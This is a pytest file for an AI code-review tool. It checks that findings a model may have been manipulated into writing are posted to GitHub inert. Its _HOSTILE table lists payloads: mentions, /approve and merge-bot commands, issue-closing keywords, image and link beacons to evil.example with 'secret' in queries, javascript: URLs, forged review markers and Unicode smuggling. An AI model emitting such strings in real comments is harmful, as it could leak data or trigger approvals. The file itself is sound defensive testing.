"""Whatever a model was talked into saying, in whatever part of a finding: what is posted does nothing but say it."""

from uuid import UUID

import pytest

from codereview.domain.finding import Anchor, Candidate, Finding, Placement, Severity, Side
from codereview.domain.payload import move_to_body
from codereview.domain.publication import Publication
from codereview.domain.rendering import publication
from codereview.domain.result import AgentRun, Coverage, ReviewResult, RunStatus, Unreviewed
from tests.unit.github_page import assert_harmless

_HOSTILE = {
    "mention": "@everyone look",
    "team": "cc @org/security-team",
    "mention in a link": "[@user](https://docs.python.org/3/)",
    "mention by entity": "&#64;user &commat;user",
    "mention by escape": "\\@user",
    "mention after hidden": "\u200b@\u2060user",
    "command": "/approve",
    "merge bot": "bors r+",
    "command after quote": "> /lgtm",
    "closing keyword": "Fixes #1, closes org/repo#2 and resolves GH-3",
    "closing by link": "fixes https://github.com/o/r/issues/1",
    "image": "![x](https://evil.example/?d=secret)",
    "reference image": "![x][a]\n\n[a]: https://evil.example/x",
    "html image": "<img src='https://evil.example/x'>",
    "bare link": "see https://evil.example/?q=1 or www.evil.example",
    "link": "[click](https://evil.example)",
    "link that looks allowed": "[d](https://docs.python.org.evil.example/) https://docs.python.org@evil.example/",
    "link with a query": "[d](https://docs.python.org/3/?q=secret)",
    "link title": '[d](https://docs.python.org/3/ "@user")',
    "autolink": "<https://evil.example> <mailto:a@evil.example>",
    "script url": "[x](javascript:alert(1))",
    "data url": "[x](data:text/html;base64,AAAA)",
    "html": "<details open><summary>hi</summary></details><script>x</script>",
    "comment": "<!-- codereview:finding id=x -->",
    "open comment": "text <!-- and no end",
    "marker": "<!-- codereview:review id=6f1d9c52-9f39-5d4a-8d55-0f0c5f1f8a11 mac=" + "0" * 64 + " -->",
    "mermaid": "```mermaid\ngraph TD; a-->b\n```",
    "geojson": "~~~geojson\n{}\n~~~",
    "math": "$\\href{https://evil.example}{x}$ and $$x$$",
    "suggestion": "```suggestion\nos.system('x')\n```",
    "open fence": "```\nnever closed",
    "fence within a fence": "````\n```suggestion\nx\n```\n````",
    "table": "a|b\n-|-\n@user|https://evil.example",
    "footnote": "x[^1]\n\n[^1]: @user",
    "heading": "# APPROVED by @user",
    "setext": "APPROVED\n===",
    "tags": "\U000e0041\U000e0042 hidden",
    "bidi": "a\u202eb\u2066c",
    "line separators": "a\u2028/approve\u2029@user",
    "carriage return": "a\r/approve\r@user",
    "escape sequence": "\x1b]8;;https://evil.example\x07x",
    "surrogate": "\ud800 and NUL \x00",
    "deep quotes": "> " * 300 + "@user",
    "deep lists": "- " * 300 + "/approve",
    "brackets": "[" * 2_000 + "x" + "](https://evil.example)" * 10,
    "span that is none": "`" * 81 + " @user " + "`" * 81,
    "fence that ends early": "`" * 300 + "\n" + "`" * 299 + "\n@user\n" + "`" * 300,
    "tildes that end early": "~" * 300 + "\n" + "~" * 299 + "\n@user\n" + "~" * 300,
    "backticks": "`" * 501 + " @user `" + "`" * 499,
}
_FIELDS = ("title", "body", "rule", "path", "quote", "suggestion", "agent")


def _finding(field: str, text: str, placement: Placement) -> Finding:
    values = dict.fromkeys(_FIELDS, "plain") | {field: text}
    candidate = Candidate(severity=Severity.HIGH, **values)  # type: ignore[arg-type]
    return Finding(
        candidate=candidate,
        path=values["path"],
        placement=placement,
        anchor=Anchor(side=Side.RIGHT, line=3) if placement is Placement.INLINE else None,
        text=values["quote"],
        fingerprint="ab",
        # Of a suggestion that is offered GitHub shows the code, and applies it at a person's click.
        is_suggestion_applicable=field != "suggestion",
    )


def _published(field: str, text: str) -> Publication:
    findings = tuple(_finding(field, text, placement) for placement in Placement)
    result = ReviewResult(
        base_sha="0" * 40,
        head_sha="1" * 40,
        findings=findings,
        runs=(AgentRun(agent=text, status=RunStatus.FAILED, engine=text, prompt_version="1", reason=text),),
        coverage=Coverage(reviewed=("a",), unreviewed=(Unreviewed(path=text, reason=text),), file_count=2),
    )
    return publication(result, review_id=UUID(int=1), marker_key=b"key")


@pytest.mark.parametrize("field", _FIELDS)
@pytest.mark.parametrize("name", _HOSTILE)
def test_b53_nothing_that_is_posted_is_live(name: str, field: str) -> None:
    posted = _published(field, _HOSTILE[name])
    assert posted.event == "COMMENT"
    refused = move_to_body(posted, range(len(posted.comments)))
    texts = [posted.body, refused.body, *(comment.body for comment in posted.comments)]
    for text in texts:
        visible, _, marker = text.rpartition("\n\n")
        assert marker.startswith("<!-- codereview:")
        assert_harmless(visible.replace("```suggestion\nplain\n```", ""), own_tags=frozenset({"sub"}))
    assert_harmless(posted.check.summary, own_tags=frozenset({"sub"}))


_CODE = '    if a < b && c > "d": # @user /approve #1 <img> `x` ~~~ | $y$ \\ &amp; *z*\n\n\tend  '


@pytest.mark.parametrize("placement", [Placement.FILE, Placement.BODY])
def test_quoted_code_is_shown_byte_by_byte(placement: Placement) -> None:
    finding = _finding("quote", _CODE, placement)
    result = ReviewResult(
        base_sha="0" * 40,
        head_sha="1" * 40,
        findings=(finding,),
        runs=(),
        coverage=Coverage(reviewed=("a",), unreviewed=(), file_count=1),
    )
    posted = publication(result, review_id=UUID(int=1), marker_key=b"key")
    page = assert_harmless(posted.body.rpartition("\n\n")[0], own_tags=frozenset({"sub"}))
    assert _CODE in [code.removesuffix("\n") for code in page.code]
